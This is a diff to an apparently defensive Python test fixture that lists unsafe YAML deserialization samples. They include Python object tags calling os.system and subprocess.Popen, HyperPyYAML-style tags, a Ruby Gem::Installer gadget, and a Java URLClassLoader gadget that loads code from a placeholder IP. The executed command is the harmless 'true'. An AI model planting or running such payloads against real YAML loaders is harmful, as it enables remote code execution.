@@ -25,6 +25,8 @@ def yamls():
         "second_document": "a: 1\n---\nb: !!python/object/apply:os.system ['true']\n",
         "percent": "a: !!python/object/apply:os%2Esystem ['true']\n",
         "tuple": "a: !!python/tuple [!!python/object/apply:os.system ['true']]\n",
+        "hyperpyyaml_new": "a: !new:subprocess.Popen [['true']]\n",
+        "hyperpyyaml_apply": "a: !apply:os.system ['true']\n",
         "ruby": "a: !ruby/object:Gem::Installer\n  i: x\n",
         "java": 'a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.1/"]]]]\n',
     }.items():
